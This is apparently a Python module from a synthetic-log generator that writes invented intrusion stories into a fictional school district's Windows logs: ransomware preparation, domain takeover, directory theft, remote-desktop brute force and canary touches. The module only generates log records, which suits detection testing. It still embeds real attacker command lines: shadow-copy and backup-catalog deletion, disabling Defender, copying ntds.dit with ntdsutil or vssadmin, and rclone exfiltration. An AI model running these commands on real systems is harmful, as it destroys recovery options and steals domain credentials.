"""Intrusions into servers and the Windows domain."""

from __future__ import annotations

from datetime import datetime

from homeroom.sample.fortnights.background.windows import get_office_address
from homeroom.sample.fortnights.district.computers import Computer
from homeroom.sample.fortnights.district.people import InventedPerson
from homeroom.sample.fortnights.intrusions.steps import add_minutes, draw_foreign, draw_start, sign_in_to_google
from homeroom.sample.fortnights.logs.google import Document
from homeroom.sample.fortnights.logs.log_book import LogEntry
from homeroom.sample.fortnights.logs.vendors import get_account, get_admin_account, get_service_account
from homeroom.sample.fortnights.logs.windows import REPLICATE_ALL, REPLICATE_CHANGES, DomainAccount
from homeroom.sample.fortnights.story import Scene, Story

_CMD, _POWERSHELL = r"C:\Windows\System32\cmd.exe", r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
_SHADOWS = (
    (r"C:\Windows\System32\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet"),
    (r"C:\Windows\System32\wbem\WMIC.exe", "wmic shadowcopy delete /nointeractive"),
    (_POWERSHELL, 'powershell -ep bypass -c "Get-WmiObject Win32_Shadowcopy | ForEach-Object {$_.Delete();}"'),
)
_RECOVERY = (
    (r"C:\Windows\System32\wbadmin.exe", "wbadmin delete catalog -quiet"),
    (r"C:\Windows\System32\bcdedit.exe", "bcdedit /set {default} recoveryenabled No"),
)
_REMOTE_TOOLS = (
    ("AnyDesk Service", r"C:\ProgramData\AnyDesk\AnyDesk.exe"),
    (
        "ScreenConnect Client (5f2c1a9b7e3d4c60)",
        r"C:\Program Files (x86)\ScreenConnect Client (5f2c1a9b7e3d4c60)\ScreenConnect.ClientService.exe",
    ),
)
_DISCOVERY = (
    (r"C:\Windows\System32\nltest.exe", "nltest /dclist:"),
    (r"C:\Windows\System32\net.exe", 'net group "Domain Admins" /domain'),
    (r"C:\Windows\System32\net.exe", "net view /all"),
    (r"C:\ProgramData\adfind.exe", "adfind.exe -f objectcategory=computer -csv name"),
)


def write_ransomware_precursors(scene: Scene) -> Story:
    """Write what comes before encryption on servers, and its first minutes."""
    district, windows, dice = scene.district, scene.logs.windows, scene.dice
    person = district.people.take("technician", "teacher")
    intruder, source = get_admin_account(person), get_office_address(person)
    servers = dice.sample(
        [
            computer
            for computer in district.computers
            if computer.role in {"files", "sql", "imaging", "backup", "remote"}
        ],
        3,
    )
    at = draw_start(scene, first=20, last=28)
    story = Story(
        kind="ransomware-precursors",
        actors=[intruder.name],
        victims=[person.email],
        hosts=[server.name for server in servers],
    )
    is_psexec = dice.random() < 0.5
    for number, server in enumerate(servers):
        moment = add_minutes(at, number * 3)
        name = "PSEXESVC" if is_psexec else "".join(dice.choices("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghij", k=8))
        image = r"%SystemRoot%\PSEXESVC.exe" if is_psexec else rf"%SystemRoot%\{name}.exe"
        story.add_stage(
            "spread",
            windows.log_on(server, moment, intruder, address=source, package="NTLM", workstation=person.laptop),
            windows.open_shared_file(
                server,
                add_minutes(moment, 0.1),
                intruder,
                share="ADMIN$",
                path=image.rpartition("\\")[2],
                address=source,
                mask="0x2",
            ),
            windows.install_service(server, add_minutes(moment, 0.2), name=name, image=image),
        )
    at = add_minutes(at, dice.uniform(12, 40))
    for number, server in enumerate(servers):
        moment = add_minutes(at, number)
        line = "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true"
        story.add_stage("evasion", _run_as_system(scene, server, moment, _POWERSHELL, line))
        story.add_stage("evasion", windows.change_defender(server, add_minutes(moment, 0.05), event=5001))
    at = add_minutes(at, dice.uniform(8, 50))
    shadow = dice.choice(_SHADOWS)
    for number, server in enumerate(servers):
        for step, (image, line) in enumerate((shadow, *_RECOVERY)):
            moment = add_minutes(at, number * 2 + step * 0.2)
            story.add_stage("precursor", _run_as_system(scene, server, moment, image, line))
    if dice.random() < 0.7:
        story.add_stage("precursor", windows.clear_log(servers[0], add_minutes(at, 8), intruder))
    _write_encryption(scene, story, intruder, source, at=add_minutes(at, dice.uniform(30, 120)))
    return story


def _write_encryption(scene: Scene, story: Story, intruder: DomainAccount, source: str, *, at: datetime) -> None:
    """Write hundreds of renamed files on the shares."""
    server = scene.district.get_computer("files")
    extension = scene.dice.choice(("locked", "crypt7", "fernlock"))
    for number in range(300):
        path = f"Staff\\Forms\\Form {number}.docx.{extension}"
        moment = add_minutes(at, number / 60)
        access = scene.logs.windows.open_shared_file(
            server, moment, intruder, share="Staff", path=path, address=source, mask="0x10002"
        )
        story.add_stage("impact", access)
    if server.name not in story.hosts:
        story.hosts.append(server.name)


def _run_as_system(scene: Scene, server: Computer, at: datetime, image: str, line: str) -> LogEntry:
    """Write a process that the intruder's service starts."""
    windows = scene.logs.windows
    return windows.start_process(server, at, windows.get_computer_account(server), image=image, line=line, parent=_CMD)


def write_domain_takeover(scene: Scene) -> Story:
    """Write tickets of services cracked, a service account misused, the directory copied, and a new domain admin."""
    district, windows, dice = scene.district, scene.logs.windows, scene.dice
    person = district.people.take("teacher", "office")
    account, source = get_account(person), get_office_address(person)
    controller = dice.choice(district.list_computers("controller"))
    at = draw_start(scene, latest=11)
    service = get_service_account("svc-backup")
    story = Story(
        kind="domain-takeover", actors=[account.name, service.name], victims=[person.email], hosts=[controller.name]
    )
    for number, name in enumerate(("svc-backup", "svc-sql", "svc-sis", "svc-scan", "svc-print", "svc-imaging")):
        moment = add_minutes(at, number * dice.uniform(0.01, 0.2))
        ticket = windows.request_ticket(controller, moment, account, service=name, address=source, encryption="0x17")
        story.add_stage("credentials", ticket)
    at = add_minutes(at, dice.uniform(180, 1200))
    entry = windows.log_on(controller, at, service, address=source, package="NTLM", workstation=person.laptop)
    story.add_stage("spread", entry)
    at = add_minutes(at, dice.uniform(5, 40))
    for right in (REPLICATE_CHANGES, REPLICATE_ALL):
        story.add_stage("credentials-again", windows.use_directory_right(controller, at, service, right=right))
    at = add_minutes(at, dice.uniform(40, 300))
    new = DomainAccount(name=dice.choice(("helpdesk2", "sqladmin", "backupsvc")), number=3900)
    story.actors.append(new.name)
    story.add_stage(
        "privilege",
        windows.change_account(controller, at, service, event=4720, target=new),
        windows.change_group(controller, add_minutes(at, 1), service, member=new, group="Domain Admins", number=512),
    )
    return story


def write_directory_copy(scene: Scene) -> Story:
    """Write a domain controller's database copied with its own tools, and sent away."""
    district, windows, dice = scene.district, scene.logs.windows, scene.dice
    person = district.people.take("technician", "teacher")
    account, source = get_admin_account(person), get_office_address(person)
    controller = dice.choice(district.list_computers("controller"))
    at = draw_start(scene, first=19, last=28)
    story = Story(kind="directory-copy", actors=[account.name], victims=[person.email], hosts=[controller.name])
    story.add_stage("spread", windows.log_on(controller, at, account, kind=10, address=source, package="Negotiate"))
    at = add_minutes(at, dice.uniform(4, 25))
    copies = (
        ((r"C:\Windows\System32\ntdsutil.exe", r'ntdsutil "ac i ntds" "ifm" "create full C:\ProgramData\d" q q'),),
        (
            (r"C:\Windows\System32\vssadmin.exe", "vssadmin create shadow /for=C:"),
            (
                _CMD,
                r"cmd /c copy \\?\GLOBALROOT\Device\HarddiskVolumeShadowCopy3\Windows\NTDS\ntds.dit C:\ProgramData\d",
            ),
        ),
    )
    for number, (image, line) in enumerate(dice.choice(copies)):
        moment = add_minutes(at, number)
        step = windows.start_process(controller, moment, account, image=image, line=line, parent=_CMD)
        story.add_stage("credentials", step)
    at = add_minutes(at, dice.uniform(30, 200))
    image, line = r"C:\ProgramData\rclone.exe", r"rclone.exe copy C:\ProgramData\d remote:d --transfers 8"
    leave = windows.start_process(controller, at, account, image=image, line=line, parent=_CMD)
    story.add_stage("exfiltration", leave)
    if dice.random() < 0.5:
        story.add_stage("exfiltration", windows.clear_log(controller, add_minutes(at, 12), account))
    return story


def write_remote_desktop(scene: Scene) -> Story:
    """Write passwords guessed at an open remote desktop, then a remote tool, a look around, and the next server."""
    district, windows, dice = scene.district, scene.logs.windows, scene.dice
    person, lair, server = (
        district.people.take("teacher", "office"),
        draw_foreign(scene),
        district.get_computer("remote"),
    )
    account, at = get_account(person), draw_start(scene)
    story = Story(
        kind="remote-desktop", victims=[account.name, person.email], hosts=[server.name], addresses=[lair.address]
    )
    for number in range(dice.randint(60, 160)):
        name = dice.choice(("administrator", "admin", "user", "scanner", "office", account.name, "teacher"))
        moment = add_minutes(at, number * 0.4)
        failure = windows.fail_log_on(
            server, moment, name, address=lair.address, workstation="KALI", is_known=name == account.name
        )
        story.add_stage("credentials", failure)
    at = add_minutes(at, 70)
    story.add_stage("access", windows.log_on(server, at, account, kind=10, address=lair.address, package="Negotiate"))
    at = add_minutes(at, dice.uniform(4, 30))
    name, image = dice.choice(_REMOTE_TOOLS)
    service = f'"{image}" --service'
    start = windows.start_process(
        server, at, account, image=image, line=f'"{image}" --install --silent', parent=_POWERSHELL
    )
    story.add_stage(
        "persistence",
        start,
        windows.install_service(server, add_minutes(at, 0.2), name=name, image=service, start="auto start"),
    )
    at = add_minutes(at, dice.uniform(10, 60))
    for number, (image, line) in enumerate(_DISCOVERY):
        moment = add_minutes(at, number * 0.7)
        story.add_stage(
            "discovery", windows.start_process(server, moment, account, image=image, line=line, parent=_CMD)
        )
    at = add_minutes(at, dice.uniform(60, 240))
    target = district.get_computer("files")
    story.add_stage("spread", windows.log_on(target, at, account, kind=10, address=server.address, package="Negotiate"))
    story.hosts.append(target.name)
    return story


def write_canary_touch(scene: Scene) -> Story:
    """Write an intruder who opens what nobody has a reason to open, then what matters."""
    district, dice = scene.district, scene.dice
    person = district.people.take("teacher", "nurse")
    if dice.random() < 0.4:
        return _write_document_touch(scene, person)
    windows, account, source = scene.logs.windows, get_account(person), get_office_address(person)
    at, files = draw_start(scene), district.get_computer("files")
    story = Story(kind="canary-touch", actors=[account.name], victims=[person.email], hosts=[files.name])
    if dice.random() < 0.5:
        share, path = district.bait_file.split("\\", 1)
        touch = windows.open_shared_file(files, at, account, share=share, path=path, address=source)
        story.files.append(district.bait_file)
    else:
        controller = dice.choice(district.list_computers("controller"))
        touch = windows.fail_log_on(controller, at, district.bait_account, address=source, workstation=person.laptop)
        story.hosts.append(controller.name)
        story.actors.append(district.bait_account)
    story.add_stage("discovery", touch)
    start = add_minutes(at, dice.uniform(30, 200))
    for number in range(80):
        moment, path = add_minutes(start, number * 0.3), f"Business Office\\Payroll\\2026\\Stub {number}.pdf"
        access = windows.open_shared_file(files, moment, account, share="Staff", path=path, address=source)
        story.add_stage("collection", access)
    return story


def _write_document_touch(scene: Scene, person: InventedPerson) -> Story:
    at, lair, google = draw_start(scene), draw_foreign(scene), scene.logs.google
    story = Story(kind="canary-touch", victims=[person.email], files=[scene.district.bait_document])
    sign_in_to_google(scene, story, person, at, lair)
    owner = scene.district.people.get_first("business").email
    bait = Document(key=scene.district.bait_document, title="Passwords and accounts", owner=owner, kind="spreadsheet")
    moment = add_minutes(at, scene.dice.uniform(5, 40))
    story.add_stage("discovery", google.use_document(person, moment, lair, bait, name="view"))
    start = add_minutes(moment, scene.dice.uniform(30, 200))
    for number in range(20):
        document = google.draw_document(person, scene.dice, title=f"Student records {number + 1}")
        time = add_minutes(start, number)
        story.add_stage("collection", google.use_document(person, time, lair, document, name="view"))
    return story
